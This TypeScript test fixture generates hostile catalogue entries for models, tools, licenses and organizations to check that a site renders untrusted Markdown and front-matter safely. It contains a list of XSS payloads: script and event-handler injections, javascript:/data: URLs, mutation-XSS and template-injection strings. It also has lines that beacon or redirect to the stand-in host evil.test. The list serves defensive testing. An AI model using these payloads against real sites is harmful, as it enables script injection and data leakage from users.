/**
 * What pages have to render harmless by themselves, with no check before them and no policy behind: every text, address
 * and body of these entries is hostile.
 */

/** Texts for every field that takes one. Each tries to run `alert`, to load from `evil.test`, or to end what is around it. */
export const TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<script>',
  ']]><script>alert(1)</script>',
  '</title></head><body onload=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
  '<svg onload=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<img src=https://evil.test/beacon.png>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<style>@import "https://evil.test/x.css"</style>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<base href=https://evil.test/>',
  '<form action=https://evil.test/><input name=main>',
  '<a id=main name=documentElement href=javascript:alert(1)>x</a>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} {alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '\u202e<script>alert(1)</script>\u2066',
  '--></style></template></noscript></textarea><script>alert(1)</script>',
  '__proto__',
  'constructor',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\'";alert(1);//',
];

const ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  'https://evil.test/" onmouseover="alert(1)',
  "https://evil.test/'><script>alert(1)</script>",
  'https:evil.test',
  '//evil.test/',
  '\\\\evil.test/',
];

export const BODIES: readonly string[] = [
  ...TEXTS,
  ...ADDRESSES.map((address) => `[a link](${address}) <${address}> [ref]\n\n[ref]: ${address}`),
  '![x](https://evil.test/beacon.png) ![y][z]\n\n[z]: https://evil.test/beacon2.png',
  '[x](https://example.org "t\\" onmouseover=alert(1) x=\\"")',
  '```"><script>alert(1)</script>\nx\n```',
  '<div style="position:fixed;inset:0;background:red">over</div>',
  '<span data-pagefind-meta="title">Other</span><span data-pagefind-filter="kind:tool">x</span>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<button popovertarget=x commandfor=x>x</button><dialog open>x</dialog>',
  '</article></main></div><footer>Gone</footer><plaintext>',
  '# First\n\n<h1>Second</h1>\n\n## main\n\n## sources',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  `${'>'.repeat(200)} deep`,
];

const pick = (list: readonly string[], index: number): string => list[index % list.length] ?? '';
// JSON is YAML.
const entry = (data: object, body: string): string => `---\n${JSON.stringify(data)}\n---\n${body}\n`;

/** One model, tool, license and organization for each body, with hostile texts and addresses in every field that is free text or an address. */
export function hostileEntries(): Record<string, string> {
  return Object.fromEntries(
    BODIES.flatMap((body, index) => {
      const text = pick(TEXTS, index);
      const url = pick(ADDRESSES, index);
      const source = { url, checked: '2026-11-20', note: text };
      const id = `hostile-${index}`;
      const common = { name: `${text} ${index}`, aliases: [`${text} alias ${index}`], summary: text, sources: { status: source, released: source, variants: source, 'licenses.weights': source, install: source } };
      const model = {
        ...common,
        organizations: [id],
        categories: ['pre-trained'],
        released: '2022-05-03',
        status: 'historic',
        licenses: { weights: id },
        languages: ['en', 'fa'],
        links: { paper: url, code: url, model_card: url },
        base_models: [{ model: 'opt', relation: 'fine-tune', variants: [text] }],
        variants: [{ name: text, parameters: 125_000_000, weights: url }, { name: `${text}2`, parameters: 7_000_000_000, context_length: 2048, weights: `https://huggingface.co/${text}` }],
      };
      const command = { title: text, command: `run {model} ${text}` };
      const tool = { ...common, organizations: [id], categories: ['inference'], status: 'active', license: id, repository: url, install: [command], run: [command], links: { website: url } };
      const answer = { answer: 'conditional', quote: text, note: text };
      const license = { ...common, short_name: text, kind: 'custom', url, permissions: { commercial_use: answer, modification: answer }, conditions: { attribution: answer } };
      return [
        [`models/${id}.md`, entry(model, body)],
        [`tools/${id}.md`, entry(tool, body)],
        [`licenses/${id}.md`, entry(license, body)],
        [`organizations/${id}.md`, entry({ ...common, website: url, kind: 'company', countries: ['US'] }, body)],
      ];
    }),
  );
}
